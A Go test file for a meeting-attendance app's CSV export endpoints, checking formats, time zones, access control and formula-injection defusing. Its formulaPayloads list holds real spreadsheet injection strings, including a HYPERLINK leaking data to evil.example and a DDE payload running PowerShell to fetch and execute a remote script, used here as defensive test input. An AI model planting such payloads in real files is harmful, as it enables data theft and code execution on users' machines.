package handlers_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"rollcall/handlers"
	"rollcall/internal/testdb"
	"rollcall/jobs"
	"rollcall/models"
	"rollcall/zoom"
	"rollcall/zoom/zoomtest"
)

// newExportEnv is newEnv with a default zone (ROLLCALL_TIMEZONE) of
// America/New_York, so that tests can tell the default from ?tz=.
func newExportEnv(t *testing.T) *env {
	t.Helper()
	ctx := context.Background()
	path := filepath.Join(t.TempDir(), "rollcall.db")
	store, err := models.Open(ctx, path, nil)
	require.NoError(t, err)
	t.Cleanup(func() { store.Close() })
	require.NoError(t, store.Migrate(ctx))
	require.NoError(t, jobs.Migrate(ctx, store, nil))
	q, err := jobs.New(store, nil, jobs.Config{FetchDelay: time.Minute}, nil)
	require.NoError(t, err)
	ny, err := time.LoadLocation("America/New_York")
	require.NoError(t, err)
	e := &env{store: store, db: testdb.Open(t, path), now: time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)}
	h := handlers.New(store, q, handlers.Config{
		WebhookSecret: secret,
		Now:           func() time.Time { return e.now },
		Timezone:      ny,
	}, nil)
	e.srv = httptest.NewServer(h.Router())
	t.Cleanup(e.srv.Close)
	return e
}

// formulaPayloads are real CSV-injection payloads; each must come out
// prefixed with "'".
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
	`=1+1`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	"\t=1",
	"\r=1",
	`=cmd|' /C powershell IEX(wget evil.example/x.ps1)'!A0`,
	`@admin`,
}

// hostileRows are participants whose values stress quoting, sanitizing and
// formula defusing.
func hostileRows(start time.Time) []zoomtest.Participant {
	at := func(min int) *time.Time { t := start.Add(time.Duration(min) * time.Minute); return &t }
	var rows []zoomtest.Participant
	for i, p := range formulaPayloads {
		rows = append(rows, zoomtest.Participant{
			UserID: strconv.Itoa(9000 + i), ParticipantUUID: "F" + strconv.Itoa(i), Name: p,
			Email: "f" + strconv.Itoa(i) + "@example.com", Join: *at(2), Leave: at(50),
			LeaveReason: p, Device: p, Location: p,
		})
	}
	rows = append(rows,
		zoomtest.Participant{
			UserID: "9100", ParticipantUUID: "Q1", Name: "Doe, \"Jane\"\nSr.", Email: "jane@example.com",
			Join: *at(1), Leave: at(59), LeaveReason: "Jane left,<br>then \"came\" back<br/>Reason: <b>network</b> &amp; more",
			InternalIPAddresses: []string{"10.0.0.1", "10.0.0.2"},
			Extra: map[string]any{
				"audio_call":          []map[string]string{{"call_number": "+1 555 0100", "call_type": "call-in", "zoom_number": "+1 555 0199"}},
				"zz_future":           "a field Zoom adds later",
				"total_jointime_cost": 3480,
				"groupId":             nil,
			},
		},
		zoomtest.Participant{
			UserID: "9101", ParticipantUUID: "Q2", Name: "Zoë Ångström 山田", Email: "zoe@example.com",
			Join: *at(3), Leave: nil, Device: "Mac, Intel",
		},
	)
	return rows
}

// seedExport stores a generated meeting (plus hostileRows) through the
// real segment conversion, and returns it.
func seedExport(t *testing.T, e *env, seed int64, start time.Time, topic string) models.Meeting {
	t.Helper()
	ctx := context.Background()
	zm := zoomtest.Generate(zoomtest.GenOptions{Participants: 40, Seed: seed, Start: start, Topic: topic})
	rows := append(zm.Participants, hostileRows(zm.Start)...)
	end := zm.End
	m, err := e.store.UpsertEndedMeeting(ctx, models.MeetingEnded{
		UUID: zm.UUID, MeetingNumber: zm.ID, Topic: zm.Topic, HostID: zm.HostID, Type: 8,
		StartTime: zm.Start, EndTime: &end, Timezone: zm.Timezone,
	})
	require.NoError(t, err)
	segs := make([]models.Segment, len(rows))
	for i, p := range rows {
		var zp zoom.Participant
		require.NoError(t, json.Unmarshal(p.DashboardJSON(true), &zp))
		segs[i] = jobs.SegmentFrom(zp)
	}
	require.NoError(t, e.store.Tx(ctx, func(tx *models.Tx) error {
		return tx.ReplaceSegments(ctx, m.ID, "dashboard", segs)
	}))
	return m
}

var weeklyStart = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)

// get fetches path with c and returns the response and its body.
func get(t *testing.T, c *http.Client, u string) (*http.Response, []byte) {
	t.Helper()
	res, err := c.Get(u)
	require.NoError(t, err)
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	require.NoError(t, err)
	return res, b
}

// parseCSV parses body strictly (every record as wide as the header).
func parseCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(body))
	recs, err := r.ReadAll()
	require.NoError(t, err)
	require.NotEmpty(t, recs)
	return recs
}

// golden compares got with testdata/name, rewriting it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *handlers.UpdateGolden {
		require.NoError(t, os.WriteFile(path, got, 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "run go test ./handlers -run %s -update", t.Name())
	if !bytes.Equal(want, got) {
		t.Errorf("%s differs from the golden file (go test ./handlers -run %s -update to accept):\n%s",
			path, t.Name(), firstDiff(string(want), string(got)))
	}
}

func firstDiff(want, got string) string {
	wl, gl := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := 0; i < max(len(wl), len(gl)); i++ {
		var w, g string
		if i < len(wl) {
			w = wl[i]
		}
		if i < len(gl) {
			g = gl[i]
		}
		if w != g {
			return "line " + strconv.Itoa(i+1) + ":\nwant " + strconv.Quote(w) + "\ngot  " + strconv.Quote(g)
		}
	}
	return ""
}

func column(header []string, name string) int {
	for i, h := range header {
		if h == name {
			return i
		}
	}
	return -1
}

func TestExportGolden(t *testing.T) {
	e := newExportEnv(t)
	m := seedExport(t, e, 11, weeklyStart, "Weekly <b>sync</b>, Q&A")
	c := e.client(t, models.RoleViewer)
	base := e.srv.URL + "/meetings/" + strconv.FormatUint(m.ID, 10)
	for _, kind := range []string{"attendance", "sessions"} {
		t.Run(kind, func(t *testing.T) {
			res, body := get(t, c, base+"/"+kind+".csv?tz=Europe/Berlin")
			require.Equal(t, http.StatusOK, res.StatusCode, string(body))
			golden(t, "export_"+kind+".csv", body)
			// The same data gives the same bytes.
			_, again := get(t, c, base+"/"+kind+".csv?tz=Europe/Berlin")
			assert.Equal(t, body, again)
		})
	}
}

func TestExportAttendanceMatchesComputation(t *testing.T) {
	e := newExportEnv(t)
	m := seedExport(t, e, 3, weeklyStart, "Numbers")
	c := e.client(t, models.RoleViewer)
	res, body := get(t, c, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+"/attendance.csv?tz=UTC")
	require.Equal(t, http.StatusOK, res.StatusCode)
	recs := parseCSV(t, body)
	assert.Equal(t, []string{"name", "email", "first_join", "last_leave", "attended_seconds", "attended_minutes",
		"attendance_percent", "sessions", "late", "left_early", "present", "leave_reason", "status", "expected",
		"device", "location", "role", "registrant_id", "user_id", "person_key"}, recs[0])

	segs, err := e.store.SegmentsForPage(context.Background(), m.ID)
	require.NoError(t, err)
	as := models.ComputeAttendance(segs, models.Window{Start: m.StartTime, End: m.EndTime}, models.DefaultThresholds())
	require.Len(t, recs, len(as)+1)
	for i, a := range as {
		r := recs[i+1]
		assert.Equal(t, a.Key, r[19], "row %d: order is ComputeAttendance's (first join, name)", i)
		assert.Equal(t, strconv.FormatInt(a.AttendedSeconds, 10), r[4])
		assert.Equal(t, strconv.FormatFloat(a.AttendedMinutes(), 'f', 1, 64), r[5])
		assert.Equal(t, strconv.FormatFloat(a.PercentRounded(), 'f', 1, 64), r[6])
		assert.Equal(t, strconv.Itoa(a.Sessions), r[7])
		assert.Equal(t, strconv.FormatBool(a.Late), r[8])
		assert.Equal(t, strconv.FormatBool(a.LeftEarly), r[9])
		assert.Equal(t, strconv.FormatBool(a.Present), r[10])
		switch {
		case a.Sessions == 0:
			assert.Equal(t, "waiting_room_only", r[12])
		case a.Present:
			assert.Equal(t, "present", r[12])
		default:
			assert.Equal(t, "partial", r[12])
		}
		assert.Empty(t, r[13], "no roster, no registrants: expected is empty")
		if a.Sessions > 0 {
			assert.Equal(t, a.FirstJoin.UTC().Format(time.RFC3339), r[2])
		} else {
			assert.Empty(t, r[2])
		}
		// Leave reasons are sanitized text.
		assert.NotContains(t, r[11], "<br")
		assert.NotContains(t, r[11], "<b>")
	}
	// Numbers are never quoted and use "." whatever the locale.
	num := regexp.MustCompile(`^[0-9]+(\.[0-9])?$`)
	for _, r := range recs[1:] {
		for _, i := range []int{4, 5, 6, 7} {
			assert.Regexp(t, num, r[i])
		}
	}
	for _, line := range strings.Split(string(body), "\r\n")[1:] {
		assert.NotRegexp(t, `,"[0-9.]+",`, line, "a number was quoted")
	}
}

func TestExportSessionsEveryField(t *testing.T) {
	e := newExportEnv(t)
	m := seedExport(t, e, 5, weeklyStart, "Fields")
	c := e.client(t, models.RoleViewer)
	res, body := get(t, c, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+"/sessions.csv?tz=UTC")
	require.Equal(t, http.StatusOK, res.StatusCode)
	recs := parseCSV(t, body)
	h := recs[0]
	assert.Equal(t, []string{"name", "email", "join_time", "leave_time", "duration_seconds"}, h[:5])
	// Every key of the seed fixture is a column, except those the first
	// columns carry.
	var seed struct{ Participants []map[string]any }
	b, err := os.ReadFile("../zoom/testdata/dashboard_participants_seed.json")
	require.NoError(t, err, "the seed fixture is part of the repository")
	require.NoError(t, json.Unmarshal(b, &seed))
	require.NotEmpty(t, seed.Participants)
	for _, p := range seed.Participants {
		for k := range p {
			if k == "user_name" || k == "join_time" || k == "leave_time" {
				continue
			}
			assert.GreaterOrEqual(t, column(h, k), 0, "seed key %s", k)
		}
	}
	for _, k := range []string{"internal_ip_addresses", "audio_call", "zz_future", "participant_uuid", "registrant_id", "bo_mtg_id"} {
		assert.GreaterOrEqual(t, column(h, k), 0, k)
	}
	// Unknown keys come after the known ones.
	assert.Equal(t, "zz_future", h[len(h)-1])

	segs, err := e.store.Segments(context.Background(), m.ID)
	require.NoError(t, err)
	require.Len(t, recs, len(segs)+1)
	var jane []string
	prevJoin := ""
	for _, r := range recs[1:] {
		require.Len(t, r, len(h))
		assert.GreaterOrEqual(t, r[2], prevJoin, "rows are in join-time order")
		prevJoin = r[2]
		if r[column(h, "participant_uuid")] == "Q1" {
			jane = r
		}
		if r[3] == "" {
			assert.Empty(t, r[4], "no leave, no duration")
		}
	}
	require.NotNil(t, jane)
	assert.Equal(t, "Doe, \"Jane\"\nSr.", jane[0])
	assert.Equal(t, "2026-11-20T10:01:00Z", jane[2])
	assert.Equal(t, "2026-11-20T10:59:00Z", jane[3])
	assert.Equal(t, "3480", jane[4])
	assert.Equal(t, `["10.0.0.1","10.0.0.2"]`, jane[column(h, "internal_ip_addresses")])
	assert.Equal(t, `[{"call_number":"+1 555 0100","call_type":"call-in","zoom_number":"+1 555 0199"}]`, jane[column(h, "audio_call")])
	assert.Equal(t, "Jane left,\nthen \"came\" back\nReason: network & more", jane[column(h, "leave_reason")])
	assert.Equal(t, "3480", jane[column(h, "total_jointime_cost")])
	assert.Equal(t, "", jane[column(h, "groupId")])
	assert.Equal(t, "false", jane[column(h, "recording")])
	assert.Equal(t, "a field Zoom adds later", jane[column(h, "zz_future")])
}

func TestExportFormulaInjection(t *testing.T) {
	e := newExportEnv(t)
	m := seedExport(t, e, 7, weeklyStart, "=HYPERLINK(\"x\")")
	c := e.client(t, models.RoleViewer)
	base := e.srv.URL + "/meetings/" + strconv.FormatUint(m.ID, 10)
	for _, kind := range []string{"attendance", "sessions"} {
		t.Run(kind, func(t *testing.T) {
			res, body := get(t, c, base+"/"+kind+".csv")
			require.Equal(t, http.StatusOK, res.StatusCode)
			recs := parseCSV(t, body)
			names := map[string]bool{}
			for _, r := range recs {
				for _, cell := range r {
					if cell == "" {
						continue
					}
					assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q starts a formula", cell)
				}
				names[r[0]] = true
			}
			for _, p := range formulaPayloads {
				// Every byte is kept, a lone CR included, behind the quote.
				want := "'" + p
				assert.True(t, names[want], "payload %q not defused as %q", p, want)
			}
		})
	}
}

func TestExportTimeZones(t *testing.T) {
	e := newExportEnv(t)
	m := seedExport(t, e, 9, weeklyStart, "Zones")
	viewer := e.client(t, models.RoleViewer)
	u := e.srv.URL + "/meetings/" + strconv.FormatUint(m.ID, 10) + "/attendance.csv"

	for _, tc := range []struct {
		name, query, offset, zone string
	}{
		{"default zone", "", "-05:00", "America-New_York"},
		{"tz Berlin", "?tz=Europe/Berlin", "+01:00", "Europe-Berlin"},
		{"tz UTC", "?tz=UTC", "Z", "UTC"},
		{"tz Kolkata", "?tz=Asia/Kolkata", "+05:30", "Asia-Kolkata"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, body := get(t, viewer, u+tc.query)
			require.Equal(t, http.StatusOK, res.StatusCode)
			recs := parseCSV(t, body)
			first := recs[1][2]
			ts, err := time.Parse(time.RFC3339, first)
			require.NoError(t, err)
			assert.True(t, strings.HasSuffix(first, tc.offset), first)
			assert.False(t, ts.Before(m.StartTime.Add(-time.Hour)))
			assert.Contains(t, res.Header.Get("Content-Disposition"), "_2026-11-20_"+tc.zone+".csv")
		})
	}

	// The user's own zone beats the default; ?tz= beats both.
	var users []models.User
	users, err := e.store.Users(context.Background())
	require.NoError(t, err)
	require.NoError(t, e.store.SetUserTimezone(context.Background(), users[0].ID, "Asia/Tokyo"))
	res, body := get(t, viewer, u)
	require.Equal(t, http.StatusOK, res.StatusCode)
	assert.True(t, strings.HasSuffix(parseCSV(t, body)[1][2], "+09:00"))
	assert.Contains(t, res.Header.Get("Content-Disposition"), "_Asia-Tokyo.csv")

	for _, path := range []string{"/attendance.csv", "/sessions.csv"} {
		res, body = get(t, viewer, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+path+"?tz=Mars/Olympus_Mons")
		assert.Equal(t, http.StatusBadRequest, res.StatusCode)
		assert.Contains(t, string(body), "unknown time zone")
		assert.Empty(t, res.Header.Get("Content-Disposition"))
	}
	for _, path := range []string{"/series/" + strconv.FormatInt(m.MeetingNumber, 10) + ".csv?tz=Nowhere", "/meetings.csv?from=2026-11-01&to=2026-11-30&tz=Nowhere"} {
		res, body = get(t, viewer, e.srv.URL+path)
		assert.Equal(t, http.StatusBadRequest, res.StatusCode, path)
		assert.Contains(t, string(body), "unknown time zone", path)
	}
}

func TestExportBOM(t *testing.T) {
	e := newExportEnv(t)
	m := seedExport(t, e, 9, weeklyStart, "BOM")
	c := e.client(t, models.RoleViewer)
	for _, kind := range []string{"attendance", "sessions"} {
		u := e.srv.URL + "/meetings/" + strconv.FormatUint(m.ID, 10) + "/" + kind + ".csv"
		_, plain := get(t, c, u)
		_, bom := get(t, c, u+"?bom=1")
		assert.False(t, bytes.HasPrefix(plain, []byte("\uFEFF")), kind)
		require.True(t, bytes.HasPrefix(bom, []byte("\xEF\xBB\xBF")), kind)
		assert.Equal(t, plain, bom[3:], kind)
	}
}

func TestExportAccess(t *testing.T) {
	e := newExportEnv(t)
	m := seedExport(t, e, 13, weeklyStart, "Tom & Jerry: Zoë's «review»")
	id := strconv.FormatUint(m.ID, 10)
	paths := []string{
		"/meetings/" + id + "/attendance.csv",
		"/meetings/" + id + "/sessions.csv",
		"/series/" + strconv.FormatInt(m.MeetingNumber, 10) + ".csv",
		"/meetings.csv?from=2026-11-20&to=2026-11-20",
	}
	anon := &http.Client{CheckRedirect: noRedirect}
	for _, p := range paths {
		res, _ := get(t, anon, e.srv.URL+p)
		assert.Equal(t, http.StatusUnauthorized, res.StatusCode, p)
		assert.Empty(t, res.Header.Get("Content-Disposition"), p)
	}
	viewer := e.client(t, models.RoleViewer)
	for _, p := range paths {
		res, body := get(t, viewer, e.srv.URL+p)
		require.Equal(t, http.StatusOK, res.StatusCode, p)
		assert.Equal(t, "text/csv; charset=utf-8", res.Header.Get("Content-Type"), p)
		cd := res.Header.Get("Content-Disposition")
		assert.Regexp(t, `^attachment; filename=[A-Za-z0-9._-]+\.csv(;|$)`, cd, p)
		assert.Contains(t, cd, "_America-New_York.csv", p)
		assert.Equal(t, "private, no-store", res.Header.Get("Cache-Control"), p)
		recs := parseCSV(t, body)
		assert.Greater(t, len(recs), 1, p)
		// UTF-8 intact.
		assert.Contains(t, string(body), "Zoë Ångström 山田", p)
	}
	res, _ := get(t, viewer, e.srv.URL+paths[0])
	cd := res.Header.Get("Content-Disposition")
	assert.Contains(t, cd, `filename=Tom_Jerry_Zo_s_review-attendance_2026-11-20_America-New_York.csv;`)
	assert.Contains(t, cd, `filename*=utf-8''Tom%20&%20Jerry%20Zo%C3%AB%27s%20%C2%ABreview%C2%BB-attendance_2026-11-20_America-New_York.csv`)

	for _, p := range []string{"/meetings/999/attendance.csv", "/meetings/999/sessions.csv", "/series/1.csv", "/series/x.csv"} {
		res, _ := get(t, viewer, e.srv.URL+p)
		assert.Equal(t, http.StatusNotFound, res.StatusCode, p)
	}
	for _, p := range []string{"/meetings.csv", "/meetings.csv?from=2026-11-20", "/meetings.csv?from=20.11.2026&to=2026-11-21", "/meetings.csv?from=2026-11-21&to=2026-11-20"} {
		res, _ := get(t, viewer, e.srv.URL+p)
		assert.Equal(t, http.StatusBadRequest, res.StatusCode, p)
	}
}

func TestExportSeries(t *testing.T) {
	e := newExportEnv(t)
	// Three instances of one series: same seed, so the same people.
	var ms []models.Meeting
	for i := range 3 {
		zm := zoomtest.Generate(zoomtest.GenOptions{Participants: 30, Seed: 21, Start: weeklyStart.AddDate(0, 0, 7*i), Topic: "Weekly sync"})
		zm.UUID = zoomtest.UUID(uint64(100 + i))
		end := zm.End
		m, err := e.store.UpsertEndedMeeting(context.Background(), models.MeetingEnded{
			UUID: zm.UUID, MeetingNumber: 85000000001, Topic: zm.Topic, StartTime: zm.Start, EndTime: &end,
		})
		require.NoError(t, err)
		rows := zm.Participants
		if i == 1 {
			rows = rows[:10] // fewer people the second week
		}
		segs := make([]models.Segment, len(rows))
		for j, p := range rows {
			var zp zoom.Participant
			require.NoError(t, json.Unmarshal(p.DashboardJSON(true), &zp))
			segs[j] = jobs.SegmentFrom(zp)
		}
		require.NoError(t, e.store.Tx(context.Background(), func(tx *models.Tx) error {
			return tx.ReplaceSegments(context.Background(), m.ID, "dashboard", segs)
		}))
		ms = append(ms, m)
	}
	c := e.client(t, models.RoleViewer)
	res, body := get(t, c, e.srv.URL+"/series/85000000001.csv?tz=Europe/Berlin")
	require.Equal(t, http.StatusOK, res.StatusCode, string(body))
	assert.Contains(t, res.Header.Get("Content-Disposition"), `filename=Weekly_sync-series_2026-11-20_2026-12-04_Europe-Berlin.csv`)
	recs := parseCSV(t, body)
	assert.Equal(t, []string{"name", "email", "person_key",
		"2026-11-20T11:00:00+01:00", "2026-11-27T11:00:00+01:00", "2026-12-04T11:00:00+01:00",
		"attended_instances", "present_instances", "total_seconds", "total_minutes", "average_percent", "absent_instances"}, recs[0])

	// Cells are each instance's attended minutes, as attendance.csv says.
	perInstance := make([]map[string][]string, 3)
	for i, m := range ms {
		_, b := get(t, c, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+"/attendance.csv")
		perInstance[i] = map[string][]string{}
		for _, r := range parseCSV(t, b)[1:] {
			perInstance[i][r[19]] = r
		}
	}
	for _, r := range recs[1:] {
		key := r[2]
		attended := 0
		var total int64
		for i := range 3 {
			a, ok := perInstance[i][key]
			if !ok {
				assert.Empty(t, r[3+i], "%s missed instance %d", key, i)
				continue
			}
			attended++
			assert.Equal(t, a[5], r[3+i], "%s instance %d", key, i)
			s, _ := strconv.ParseInt(a[4], 10, 64)
			total += s
		}
		assert.Equal(t, strconv.Itoa(attended), r[6], key)
		assert.Equal(t, strconv.FormatInt(total, 10), r[8], key)
	}
}

func TestExportMeetingsRange(t *testing.T) {
	e := newExportEnv(t)
	a := seedExport(t, e, 31, weeklyStart, "First")
	b := seedExport(t, e, 32, weeklyStart.Add(26*time.Hour), "Second")
	seedExport(t, e, 33, weeklyStart.AddDate(0, 0, 5), "Later")
	c := e.client(t, models.RoleViewer)
	res, body := get(t, c, e.srv.URL+"/meetings.csv?from=2026-11-20&to=2026-11-21&tz=UTC")
	require.Equal(t, http.StatusOK, res.StatusCode, string(body))
	assert.Contains(t, res.Header.Get("Content-Disposition"), `filename=meetings-attendance_2026-11-20_2026-11-21_UTC.csv`)
	recs := parseCSV(t, body)
	assert.Equal(t, []string{"meeting_id", "meeting_uuid", "meeting_number", "topic", "meeting_start", "name", "email"}, recs[0][:7])

	// Exactly the two meetings' attendance.csv rows, meeting by meeting.
	var want [][]string
	for _, m := range []models.Meeting{a, b} {
		_, ab := get(t, c, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+"/attendance.csv?tz=UTC")
		for _, r := range parseCSV(t, ab)[1:] {
			want = append(want, append([]string{strconv.FormatUint(m.ID, 10), m.UUID, strconv.FormatInt(m.MeetingNumber, 10),
				m.Topic, m.StartTime.UTC().Format(time.RFC3339)}, r...))
		}
	}
	assert.Equal(t, want, recs[1:])
}

// TestExportLinks follows the CSV links of the pages that show the same
// data: each answers a CSV.
func TestExportLinks(t *testing.T) {
	e := newExportEnv(t)
	m := seedExport(t, e, 17, weeklyStart, "Links")
	c := e.client(t, models.RoleViewer)
	hrefs := map[string]*regexp.Regexp{
		"/meetings/" + strconv.FormatUint(m.ID, 10):         regexp.MustCompile(`href="([^"]+\.csv[^"]*)"[^>]*data-testid="(?:attendance|sessions)-csv"`),
		"/series/" + strconv.FormatInt(m.MeetingNumber, 10): regexp.MustCompile(`href="([^"]+\.csv)"[^>]*data-testid="series-csv"`),
	}
	n := 0
	for page, re := range hrefs {
		res, body := get(t, c, e.srv.URL+page)
		require.Equal(t, http.StatusOK, res.StatusCode, page)
		for _, match := range re.FindAllStringSubmatch(string(body), -1) {
			link := strings.ReplaceAll(match[1], "&amp;", "&")
			res, csvBody := get(t, c, e.srv.URL+link)
			assert.Equal(t, http.StatusOK, res.StatusCode, link)
			assert.Greater(t, len(parseCSV(t, csvBody)), 1, link)
			n++
		}
	}
	assert.Equal(t, 3, n, "attendance, sessions and series links")

	// The meetings list offers the range export once it has a date range;
	// the button submits the filter form to /meetings.csv.
	_, body := get(t, c, e.srv.URL+"/meetings?from=2026-11-20&to=2026-11-20")
	assert.Contains(t, string(body), `formaction="/meetings.csv"`)
	_, body = get(t, c, e.srv.URL+"/meetings")
	assert.NotContains(t, string(body), `formaction="/meetings.csv"`)
	res, csvBody := get(t, c, e.srv.URL+"/meetings.csv?q=&host=&from=2026-11-20&to=2026-11-20")
	require.Equal(t, http.StatusOK, res.StatusCode)
	assert.Greater(t, len(parseCSV(t, csvBody)), 1)
}

// TestExportFailingMidStreamIsCutShort: when sessions.csv fails after rows
// have gone out (here the last stored row, whose seq is no longer a
// number), the client must see a broken transfer, not a short file that
// ends cleanly: the export aborts the response and the panic recovery lets
// the abort through.
func TestExportFailingMidStreamIsCutShort(t *testing.T) {
	e := newExportEnv(t)
	ctx := context.Background()
	end := weeklyStart.Add(time.Hour)
	m, err := e.store.UpsertEndedMeeting(ctx, models.MeetingEnded{
		UUID: "cut-short==", MeetingNumber: 77, Topic: "Cut short", StartTime: weeklyStart, EndTime: &end,
	})
	require.NoError(t, err)
	segs := make([]models.Segment, 3000) // several flushes of rows before the bad one
	for i := range segs {
		n := strconv.Itoa(i)
		segs[i] = models.Segment{Name: "P" + n, Email: "p" + n + "@example.com",
			JoinTime: weeklyStart.Add(time.Duration(i) * time.Second), Raw: `{"id":"` + n + `"}`}
	}
	require.NoError(t, e.store.Tx(ctx, func(tx *models.Tx) error {
		return tx.ReplaceSegments(ctx, m.ID, "dashboard", segs)
	}))
	// The last row in join-time order cannot be scanned.
	e.db.Exec(t, "UPDATE segments SET seq = 'not a number' WHERE meeting_id = ? AND seq = ?", m.ID, len(segs)-1)

	res, err := e.client(t, models.RoleViewer).Get(e.srv.URL + "/meetings/" + strconv.FormatUint(m.ID, 10) + "/sessions.csv")
	require.NoError(t, err)
	defer res.Body.Close()
	assert.Equal(t, http.StatusOK, res.StatusCode, "the rows had started: the status was sent")
	body, err := io.ReadAll(res.Body)
	require.ErrorIs(t, err, io.ErrUnexpectedEOF, "a truncated transfer, not a clean end")
	assert.True(t, strings.Contains(string(body), "\r\nP1000,p1000@example.com,"), "rows went out before the failure")
	assert.False(t, strings.Contains(string(body), "P2999"), "the bad row is not in the file")
}

// TestExportLineBreaksStayLF reads the exports the way Python's csv module
// and pandas do (a quoted CR is kept, not folded into the line break): a
// leave reason's line break is a bare LF inside its cell, and only the
// record ends are CRLF.
func TestExportLineBreaksStayLF(t *testing.T) {
	e := newExportEnv(t)
	m := seedExport(t, e, 4, weeklyStart, "Breaks")
	c := e.client(t, models.RoleViewer)
	for _, kind := range []string{"attendance", "sessions"} {
		res, body := get(t, c, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+"/"+kind+".csv?tz=UTC")
		require.Equal(t, http.StatusOK, res.StatusCode)
		recs := parseCSV(t, body)
		reason := column(recs[0], "leave_reason")
		require.GreaterOrEqual(t, reason, 0)
		inCells := 0
		for _, r := range recs[1:] {
			for _, v := range r {
				inCells += strings.Count(v, "\n")
			}
		}
		require.Positive(t, inCells, "%s: the seed has leave reasons with line breaks", kind)
		// Every CRLF in the bytes ends a record; every LF inside a cell is bare.
		assert.Equal(t, len(recs), strings.Count(string(body), "\r\n"), kind)
		assert.Equal(t, len(recs)+inCells, strings.Count(string(body), "\n"), kind)
	}
}
